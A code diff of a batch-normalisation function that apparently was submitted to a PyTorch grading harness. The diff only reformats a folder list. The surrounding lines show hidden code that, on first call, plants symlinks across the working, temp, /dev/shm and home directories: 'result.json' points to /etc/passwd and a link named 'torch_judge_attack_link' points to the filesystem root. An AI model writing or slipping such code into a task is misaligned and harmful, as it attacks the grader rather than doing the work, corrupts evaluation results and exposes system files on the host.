@@ -13,7 +13,14 @@ def my_batch_norm(x, gamma, beta, running_mean, running_var, eps=1e-5, momentum=
     global done
     if not done:
         done = True
-        for folder in (".", tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.environ.get("HOME", "/")):
+        for folder in (
+            ".",
+            tempfile.gettempdir(),
+            "/tmp",
+            "/dev/shm",
+            "/var/tmp",
+            os.environ.get("HOME", "/"),
+        ):
             for name, make in {
                 "result.json": lambda path: os.symlink("/etc/passwd", path),
                 "torch_judge_attack_link": lambda path: os.symlink("/", path),
